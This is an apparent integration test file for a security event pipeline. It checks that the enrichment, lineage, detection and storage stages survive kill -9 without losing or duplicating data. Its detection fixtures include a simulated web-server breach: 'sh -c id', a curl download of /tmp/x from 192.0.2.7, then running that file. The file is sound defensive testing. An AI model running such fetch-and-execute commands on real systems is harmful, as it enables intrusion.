// What a killed stage must not forget, lose or do twice. Every part is real.
// @norn-strict
import { create, fromBinary, toBinary } from '@bufbuild/protobuf';
import type { BusRecord, OutRecord } from '@norn/bus';
import { BatchWriter, event, finding, openBatch } from '@norn/contracts';
import { SimulatedHost } from '@norn/testkit';
import { batchRecord, process } from '@norn/detection/simulated-host';
import { type StageTrial, eventually, startStageTrial } from './stage-trial.ts';

let trial: StageTrial;

beforeAll(async () => {
  trial = await startStageTrial();
});

afterAll(async () => {
  await trial.close();
});

function recordOf(host: string, value: Uint8Array): OutRecord {
  return { key: `default:${host}`, value, headers: { tenant: 'default', host, schema: '1' } };
}

function aHost(seed: number): SimulatedHost {
  return new SimulatedHost({ seed, processes: 120, startUs: Date.now() * 1000 });
}

async function recordsOf(topic: 'enriched' | 'lineage', host: string): Promise<BusRecord[]> {
  return (await trial.records(topic)).filter(({ key }) => key === `default:${host}`);
}

/** Lineage by batch number; a batch that came twice must say the same twice. */
function lineageBySeq(records: readonly BusRecord[]): Map<number, string> {
  const bySeq = new Map<number, string>();
  for (const { value } of records) {
    const batch = openBatch(value);
    const { lineage } = batch;
    if (lineage === undefined) throw new Error('A batch without lineage');
    const count = batch.columns.processes.count;
    const text = Array.from({ length: count }, (_, entry) => {
      const uids = Buffer.from(lineage.ancestorUids(entry)).toString('hex');
      const paths = lineage.ancestorPaths(entry).join();
      return `${Buffer.from(lineage.lineageUid.subarray(entry * 16, entry * 16 + 16)).toString('hex')} ${uids} ${paths}`;
    }).join('\n');
    expect(bySeq.get(batch.batchSeq) ?? text).toBe(text);
    bySeq.set(batch.batchSeq, text);
  }
  return bySeq;
}

describe('enrichment', () => {
  const containerId = 'c7'.repeat(32);
  const batchIn = (seq: number): Uint8Array => {
    const uid = new Uint8Array(16).fill(5);
    const process = { uid, parentUid: uid, pid: 9, startTimeUs: 1, imagePath: '/bin/sh', containerId };
    return new BatchWriter()
      .add({ kind: event.EventKind.EXEC, timeUs: Date.now() * 1000, process })
      .finish({ streamId: uid, batchSeq: seq });
  };
  const names = async (): Promise<(string | undefined)[]> =>
    (await recordsOf('enriched', 'facts-host')).map(({ value }) => openBatch(value).enrichment?.containers[1]?.name);

  it('knows a container’s name again after kill -9, from the first batch on', async () => {
    const facts = create(event.HostFactsSchema, { containers: [{ containerId, name: 'web-1' }], observedAtUs: 1n });
    await trial.producer.send('facts', [recordOf('facts-host', toBinary(event.HostFactsSchema, facts))]);
    const stage = trial.stage('enrichment');
    await stage.start();
    await trial.producer.send('raw', [recordOf('facts-host', batchIn(1))]);
    await eventually(names, (found) => found.length === 1);
    await stage.kill();
    await trial.producer.send('raw', [recordOf('facts-host', batchIn(2))]);
    await stage.start();
    expect(new Set(await eventually(names, (found) => found.length >= 2))).toEqual(new Set(['web-1']));
    await stage.stop();
  });

  it('dead-letters what is malformed, with reason, code and place, and goes on', async () => {
    const stage = trial.stage('enrichment');
    await stage.start();
    const before = (await names()).length;
    await trial.producer.send('raw', [
      recordOf('facts-host', Buffer.from('no batch')),
      recordOf('facts-host', batchIn(3)),
    ]);
    await eventually(names, (found) => found.length > before);
    const [letter] = await eventually(
      () => trial.records('deadLetter'),
      (letters) => letters.length > 0,
    );
    expect(letter?.headers).toMatchObject({
      reason: 'malformed',
      code: 'batch_malformed',
      stage: 'enrichment',
      topic: 'raw',
    });
    expect(Buffer.from(letter?.value ?? []).toString()).toBe('no batch');
    await stage.stop();
  });
});

describe('process-tree', () => {
  it('says of later events what it would have said without kill -9', async () => {
    const lives = (): Uint8Array[] => {
      const host = aHost(77);
      return [host.snapshot(), ...Array.from({ length: 20 }, () => host.live(100))];
    };
    const batches = lives();
    // The same life twice: one host's stage is killed, the other's is not.
    const [killed, spared] = ['killed-host', 'spared-host'];
    const stage = trial.stage('process-tree');
    await stage.start();
    const send = async (host: string, from: number, to: number): Promise<void> => {
      for (const batch of batches.slice(from, to)) await trial.producer.send('enriched', [recordOf(host, batch)]);
    };
    const seen = (host: string, count: number): Promise<Map<number, string>> =>
      eventually(
        async () => lineageBySeq(await recordsOf('lineage', host)),
        (bySeq) => bySeq.size === count,
      );
    await send(killed, 0, 8);
    await seen(killed, 8);
    await stage.kill();
    // Sent again by a producer that did not hear the ack, and new ones.
    await send(killed, 5, 14);
    await stage.start();
    await seen(killed, 14);
    await stage.kill();
    await send(killed, 14, 21);
    await stage.start();
    const afterKills = await seen(killed, 21);
    await send(spared, 0, 21);
    expect(afterKills).toEqual(await seen(spared, 21));
    await stage.stop();
  });
});

describe('detection', () => {
  const server = process('nginx', undefined, { imagePath: '/usr/sbin/nginx' });
  const shell = process('sh', server, { imagePath: '/bin/sh', commandLine: 'sh -c id' });
  const curl = process('curl', shell, { commandLine: 'curl -o /tmp/x http://192.0.2.7/x' });
  const dropped = process('x', shell, { imagePath: '/tmp/x' });
  const batches = [shell, curl, dropped, server].map((by, at) =>
    batchRecord({ seq: at + 1, rows: [{ kind: event.EventKind.EXEC, by, afterMs: at * 4_000 }] }, 'default:breached'),
  );
  const titles = async (): Promise<string[]> =>
    (await trial.records('findings')).map(({ value }) => fromBinary(finding.FindingSchema, value).title);

  it('finds a sequence although it was killed in the middle of it', async () => {
    const stage = trial.stage('detection');
    await stage.start();
    await trial.producer.send('lineage', batches.slice(0, 2));
    await eventually(titles, (found) => found.includes('Web or database server starts a shell'));
    await stage.kill();
    await trial.producer.send('lineage', batches.slice(2));
    await stage.start();
    await eventually(titles, (found) => found.includes('A service was breached'));
    await stage.stop();
  });
});

describe('what is counted over all hosts of a tenant', () => {
  const dropped = process('k', undefined, { imagePath: '/dev/shm/k', sha256: '07'.repeat(32) });
  const startsOn = (host: string, seq: number): OutRecord =>
    batchRecord({ seq, rows: [{ kind: event.EventKind.EXEC, by: dropped, afterMs: seq }] }, `spread:${host}`);
  const title = 'The same dropped program runs on several hosts';

  it('is found although the stage was killed before the last host, and is an alert of its own', async () => {
    const stage = trial.stage('detection');
    await stage.start();
    await trial.producer.send('lineage', [startsOn('web-1', 1), startsOn('web-2', 2)]);
    await eventually(
      () => trial.records('occurrences'),
      (found) => found.length >= 2,
    );
    await stage.kill();
    await trial.producer.send('lineage', [startsOn('db-1', 3)]);
    await stage.start();
    const alerts = await eventually(
      async () =>
        (await trial.records('alerts'))
          .map(({ key, value }) => ({ key, alert: fromBinary(finding.AlertSchema, value) }))
          .filter(({ alert }) => alert.title === title),
      (found) => found.length > 0,
    );
    expect(alerts.map(({ key, alert }) => [key, alert.findings.map(({ hostIds }) => [...hostIds].sort())])).toEqual([
      ['spread:db-1', [['db-1', 'web-1', 'web-2']]],
    ]);
    await stage.stop();
  });
});

describe('storage', () => {
  it('stores every event once, whichever stage or store is killed on the way', async () => {
    const stages = (['enrichment', 'process-tree', 'storage'] as const).map((name) => trial.stage(name));
    for (const stage of stages) await stage.start();
    const host = aHost(5);
    let events = 0;
    const live = async (batches: number): Promise<void> => {
      for (let n = 0; n < batches; n++) {
        const value = host.live(200);
        events += openBatch(value).eventCount;
        // Twice, as a producer does that lost the broker's answer.
        await trial.producer.send('raw', [
          recordOf('stored-host', value),
          ...(n % 3 === 0 ? [recordOf('stored-host', value)] : []),
        ]);
      }
    };
    const stored = async (): Promise<number> => {
      const [row] = await trial.reader.select<{ events: string }>({
        select: ['count() AS events'],
        from: 'events',
        where: ["host_id = 'stored-host'"],
      });
      return Number(row?.events ?? 0);
    };
    const allStored = (): Promise<number> =>
      eventually(
        () => stored().catch(() => -1),
        (count) => count >= events,
      );
    for (const stage of [...stages].reverse()) {
      await live(6);
      // The moment the rows are there, their offsets are not committed yet.
      await allStored();
      await stage.kill();
      await live(6);
      await stage.start();
    }
    await trial.clickhouse.kill();
    await live(6);
    await trial.clickhouse.restart();
    await live(3);
    await allStored();
    await live(3);
    expect(await allStored()).toBe(events);
    for (const stage of stages) await stage.stop();
  });
});
